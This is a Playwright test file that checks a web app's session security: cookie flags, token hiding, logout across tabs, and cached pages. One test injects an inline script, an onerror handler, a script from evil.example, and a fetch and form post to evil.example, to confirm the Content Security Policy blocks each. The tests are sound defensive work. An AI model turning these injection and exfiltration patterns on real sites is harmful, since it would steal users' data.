import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import {
  type ApiCaller,
  apiCaller,
  TEST_PASSWORD,
  type TestPerson,
} from '../../apps/server/src/testing/api-caller.ts'
import { pageReady } from '../support/demo-server.ts'
import { openServer } from '../support/two-people.ts'

let server: Awaited<ReturnType<typeof openServer>>
let api: ApiCaller
test.beforeAll(async () => {
  server = await openServer()
  api = apiCaller(server.origin)
})
test.afterAll(() => server?.close())

const account = (page: Page) => page.getByRole('link', { name: 'My account', exact: true }).first()

async function fillLogin(page: Page, person: TestPerson): Promise<void> {
  await page.getByLabel('Email').fill(`${person.username}@example.org`)
  await page.getByLabel('Password').fill(TEST_PASSWORD)
  await page.getByRole('button', { name: 'Log in', exact: true }).click()
}

async function logInByForm(context: BrowserContext, person: TestPerson): Promise<Page> {
  const page = await context.newPage()
  await page.goto(`${server.origin}/login`)
  await pageReady(page)
  await fillLogin(page, person)
  await expect(account(page)).toBeVisible()
  return page
}

/** Everything that a script of the page can read of this browser. */
const readable = (page: Page) =>
  page.evaluate(() => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]))

test('no script of a page reads a token, no foreign script runs, and none sends data to another site', async ({
  context,
}) => {
  const page = await logInByForm(context, await api.fan('reader'))
  const kept = (await context.cookies()).find(({ name }) => name.startsWith('parley_refresh'))
  expect(kept).toMatchObject({ httpOnly: true, sameSite: 'Strict', secure: false, path: '/api/' })
  const seen = await readable(page)
  expect(seen).not.toContain(kept?.value ?? 'none')
  expect(seen).not.toMatch(/eyJ[\w-]+\./)
  const refused = await page.evaluate(async () => {
    const violated: string[] = []
    document.addEventListener('securitypolicyviolation', event => violated.push(event.effectiveDirective))
    const until = async (count: number) => {
      while (violated.length < count) await new Promise(done => requestAnimationFrame(done))
    }
    const inline = document.createElement('script')
    inline.textContent = 'window.wasRun = true'
    document.body.append(inline)
    await until(1)
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.wasRun = true')
    image.src = 'data:,'
    document.body.append(image)
    await until(2)
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    await until(3)
    // The policy of the page refuses the request; the test counts the reports.
    await fetch('https://evil.example/').catch(() => undefined)
    await until(4)
    const form = document.createElement('form')
    form.action = 'https://evil.example/'
    document.body.append(form)
    form.submit()
    await until(5)
    return { violated, wasRun: 'wasRun' in window }
  })
  expect(refused).toEqual({
    violated: ['script-src-elem', 'script-src-attr', 'script-src-elem', 'connect-src', 'form-action'],
    wasRun: false,
  })
})

test('a second tab is logged in without asking, both refresh at once, and a logout in one is one in the other', async ({
  context,
}) => {
  const first = await logInByForm(context, await api.fan('two-tabs'))
  const second = await context.newPage()
  await second.goto(`${server.origin}/my-account`)
  await expect(second.getByText('@two-tabs').first()).toBeVisible()
  await pageReady(first)
  await pageReady(second)
  await api.call(null, 'POST /sandbox/clock/advance/', { seconds: 3600 })
  await Promise.all([first.reload(), second.reload()])
  await expect(account(first)).toBeVisible()
  await expect(second.getByText('@two-tabs').first()).toBeVisible()
  await pageReady(first)
  await first.goto(`${server.origin}/logout`)
  await expect(first.getByRole('link', { name: 'Log in' }).first()).toBeVisible()
  await expect(second).toHaveURL(/\/login\?next=/)
  await expect
    .poll(async () => (await context.cookies()).filter(({ name }) => name.startsWith('parley_refresh')))
    .toEqual([])
})

test('a login that an earlier version kept in the storage still works, and its tokens are removed from the storage', async ({
  context,
}) => {
  const { access, refresh } = await api.fan('earlier')
  await context.addInitScript(
    pair => {
      if (sessionStorage.getItem('was-in')) return
      sessionStorage.setItem('was-in', 'yes')
      localStorage.setItem('auth', JSON.stringify({ ...pair, data: {} }))
    },
    { access, refresh },
  )
  const page = await context.newPage()
  await page.goto(`${server.origin}/my-account`)
  await expect(page.getByText('@earlier').first()).toBeVisible()
  const seen = await readable(page)
  expect(seen).not.toContain(refresh)
  expect(seen).not.toContain(access)
  await page.reload()
  await expect(page.getByText('@earlier').first()).toBeVisible()
})

test('who leaves the page while it says that it logs them out is logged out', async ({ context }) => {
  const page = await logInByForm(context, await api.fan('leaver'))
  // The page that follows is never there.
  await page.route(/\/assets\/landing-[^/]*\.js$/, () => undefined)
  await page.goto(`${server.origin}/logout`)
  await expect(page.getByText('Logging out')).toBeVisible()
  await page.goto(`${server.origin}/faq`)
  await expect(page.getByRole('link', { name: 'Log in', exact: true }).first()).toBeVisible()
  await expect
    .poll(async () => (await context.cookies()).filter(({ name }) => name.startsWith('parley_refresh')))
    .toEqual([])
})

test('a page that Back brings from the cache of the browser is not the page of a person who logged out since', async ({
  context,
}) => {
  const page = await logInByForm(context, await api.fan('went-back'))
  await page.goto(`${server.origin}/my-account`)
  await expect(page.getByText('@went-back').first()).toBeVisible()
  await pageReady(page)
  // A page in this cache gets no event about the logout of the page that came after it.
  await page.evaluate(() => {
    localStorage.removeItem('auth')
    window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))
  })
  await expect(page).toHaveURL(/\/login\?next=/)
  await expect(page.getByText('@went-back')).toHaveCount(0)
  const kinds = await page.evaluate(() =>
    performance.getEntriesByType('navigation').map(each => each.toJSON().type),
  )
  expect(kinds).toEqual(['reload'])
})

test('a tab that learns late that another person is logged in shows nothing that the first one typed', async ({
  context,
}) => {
  // As a tab that the browser has frozen, which gets the events of other tabs later.
  await context.addInitScript(() =>
    addEventListener('storage', event => {
      if (document.documentElement.dataset.frozen === 'yes') event.stopImmediatePropagation()
    }),
  )
  const { username } = await api.influencer('noted-here')
  const request = `${server.origin}/session-request?influencer=${username}`
  const tab = await context.newPage()
  await tab.goto(request)
  await pageReady(tab)
  const note = tab.getByLabel('What I would like to talk about')
  await note.fill('A note of the first')
  await tab.getByRole('button', { name: 'Send request' }).click()
  await tab.waitForURL(/\/login/)
  await fillLogin(tab, await api.fan('first-here'))
  await tab.waitForURL(request)
  await expect(note).toHaveValue('A note of the first')
  await tab.goto(`${server.origin}/my-account`)
  await tab.getByLabel('Bio').fill('Words of the first')
  await tab.evaluate(() => {
    document.documentElement.dataset.frozen = 'yes'
  })
  const other = await context.newPage()
  await other.goto(`${server.origin}/logout`)
  await expect(other.getByRole('link', { name: 'Log in', exact: true }).first()).toBeVisible()
  await other.close()
  await logInByForm(context, await api.fan('second-here'))
  await tab.evaluate(() => {
    document.documentElement.dataset.frozen = 'no'
    dispatchEvent(new StorageEvent('storage', { key: 'auth' }))
  })
  await expect(tab.getByRole('link', { name: '@second-here' })).toBeVisible()
  await expect(tab.getByLabel('Bio')).toHaveValue('')
  await tab.goto(request)
  await pageReady(tab)
  await expect(note).toHaveValue('')
})
